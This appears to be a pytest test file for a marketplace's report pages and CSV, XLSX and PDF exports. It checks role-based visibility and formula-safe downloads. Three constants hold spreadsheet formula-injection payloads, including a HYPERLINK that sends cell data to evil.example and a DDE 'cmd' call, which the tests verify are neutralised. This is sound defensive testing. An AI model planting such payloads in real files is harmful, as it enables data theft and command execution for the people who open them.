"""Report pages and downloads: each person's slice, figures people can check, safe files."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from marketplace.services.exports import MONEY_FORMAT
from tests.report_factories import build_report_world

EVIL_MEMBER = '=HYPERLINK("http://evil.example/?d="&A1,"Open")'
EVIL_CATEGORY = "+cmd|' /C calc'!A0"
EVIL_VENDOR = "@SUM(1+1)"


@pytest.fixture
def rw(session, world):
    return build_report_world(session, world)


def page(client, url, status=200):
    response = client.get(url)
    assert response.status_code == status, response.get_data(as_text=True)[:500]
    return response.get_data(as_text=True)


def test_hub_sees_the_alliance(rw, make_client):
    hub = make_client(rw.world.hub)
    index = page(hub, "/reports")
    assert "SECRET-Cycle" in index and "April cycle" in index and "May cycle" not in index
    assert "/reports/years/2026" in index
    march = page(hub, f"/reports/cycles/{rw.march.id}")
    for text in ("$314.30", "$30.78", "$283.52", "$305.42", "$21.90", "7.2 %", "SECRET-Member-X", "Member Y",
                 "SECRET-Vendor-V", "against each member buying alone", "Short deliveries."):
        assert text in march, text
    assert "SECRET-Member-R" not in march, "a rejected share is not in the report"
    assert march.count("<svg") >= 3, "savings per member, spend by category and by vendor are drawn"
    year = page(hub, "/reports/years/2026")
    assert "$414.30" in year and "$383.52" in year and "April cycle" in year
    april = page(hub, f"/reports/cycles/{rw.april.id}")
    assert "cannot buy alone" in april and "left out of the savings total" in april


def test_directors_see_their_member_only(rw, make_client):
    dx = page(make_client(rw.world.dx), f"/reports/cycles/{rw.march.id}")
    assert "$178.00" in dx and "$147.22" in dx and "$18.20" in dx and "Fair-split adjustment" in dx and "-$0.36" in dx
    assert "Member Y" not in dx and "$136.30" not in dx
    dy = page(make_client(rw.world.dy), f"/reports/cycles/{rw.march.id}")
    assert "Member Y" in dy and "SECRET-Member-X" not in dy


def test_open_cycle_has_an_empty_report(rw, make_client):
    body = page(make_client(rw.world.hub), f"/reports/cycles/{rw.may.id}")
    assert "no published plan yet" in body


def test_vendors_see_their_sales(rw, make_client):
    vendor = make_client(rw.world.vendor)
    index = page(vendor, "/")
    assert ">Sales<" in index
    assert "SECRET-Cycle" in page(vendor, "/reports")
    sales = page(vendor, f"/reports/cycles/{rw.march.id}")
    assert "PO-2026-0001" in sales and "$184.60" in sales and "$31.92" in sales
    assert "SECRET-Member-X" in sales, "a vendor knows the sites it delivers"
    page(vendor, f"/reports/cycles/{rw.april.id}", 404)  # vendor W's order, not V's
    assert "PO-2026-0002" not in page(vendor, "/reports/years/2026")
    assert vendor.get(f"/reports/cycles/{rw.march.id}/savings-summary.csv").status_code == 403


def test_other_alliances_see_nothing(rw, make_client):
    for user in (rw.world.other_hub, rw.world.dz):
        client = make_client(user)
        assert client.get(f"/reports/cycles/{rw.march.id}").status_code == 404
        assert client.get(f"/reports/cycles/{rw.march.id}/report.csv").status_code == 404
        assert "SECRET-Cycle" not in page(client, "/reports/years/2026")


def rename_evil(session, rw):
    rw.world.member_y.name = EVIL_MEMBER
    rw.cycles.milk.category.name = EVIL_CATEGORY
    rw.cycles.vendor_w.name = EVIL_VENDOR
    session.flush()


def read_csv(response):
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig"))))


def test_csv_exports_neutralise_formulas_and_keep_money_numeric(session, rw, make_client):
    rename_evil(session, rw)
    hub = make_client(rw.world.hub)
    response = hub.get("/reports/years/2026/report.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="spend-alliance-a-year-2026.csv"'
    cells = [cell for row in read_csv(response) for cell in row]
    for evil in (EVIL_MEMBER, EVIL_CATEGORY, EVIL_VENDOR):
        assert "'" + evil in cells and evil not in cells
    rows = read_csv(hub.get(f"/reports/cycles/{rw.march.id}/savings-summary.csv"))
    member_y = next(row for row in rows if row and row[0] == "'" + EVIL_MEMBER)
    assert member_y[2:8] == ["136.30", "0.00", "136.30", "140.00", "3.70", "2.6"], "money stays a plain number"
    assert ["Savings", "21.90"] in rows and ["Savings %", "7.2"] in rows
    assert ["Refunded for short deliveries", "30.78"] in rows and ["Spend (charged less refunds)", "283.52"] in rows
    assert any("solving the same order for each member alone" in row[0] for row in rows if row)


def test_xlsx_exports_store_text_as_text_and_money_as_numbers(session, rw, make_client):
    rename_evil(session, rw)
    response = make_client(rw.world.hub).get("/reports/years/2026/report.xlsx")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    workbook = load_workbook(io.BytesIO(response.get_data()))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str) and cell.value.lstrip("'") in (EVIL_MEMBER, EVIL_CATEGORY, EVIL_VENDOR):
                    assert cell.value.startswith("'")
                    found.add(cell.value[1:])
    assert found == {EVIL_MEMBER, EVIL_CATEGORY, EVIL_VENDOR}
    members = workbook["Savings by member"]
    header = [c.value for c in members[1]]
    row = next(r for r in members.iter_rows(min_row=2) if r[0].value == "'" + EVIL_MEMBER)
    charged = row[header.index("Charged")]
    assert charged.data_type == "n" and float(charged.value) == 136.30 and charged.number_format == MONEY_FORMAT


def test_pdf_summary_downloads(session, rw, make_client):
    rename_evil(session, rw)
    response = make_client(rw.world.dx).get(f"/reports/cycles/{rw.march.id}/savings-summary.pdf")
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert response.get_data().startswith(b"%PDF-")
    assert 'filename="savings-summary-secret-member-x-secret-cycle.pdf"' in response.headers["Content-Disposition"]


def test_director_summary_has_only_their_member(rw, make_client):
    rows = read_csv(make_client(rw.world.dx).get("/reports/years/2026/savings-summary.csv"))
    names = {row[0] for row in rows if len(row) == 8}
    assert names == {"Member", "SECRET-Member-X", "Total", "Cycle", "SECRET-Cycle", "April cycle"}
    assert ["Member", "SECRET-Member-X"] in rows


def test_unknown_file_kinds_are_404(rw, make_client):
    hub = make_client(rw.world.hub)
    assert hub.get(f"/reports/cycles/{rw.march.id}/report.exe").status_code == 404
    assert hub.get("/reports/years/1999").status_code == 404


def test_a_member_outside_the_plan_is_told_so(session, rw, make_client):
    from tests.factories import make_user

    outsider = make_user(session, rw.member_r)
    body = page(make_client(outsider), f"/reports/cycles/{rw.march.id}")
    assert "no share in this cycle's plan" in body and "$314.30" not in body
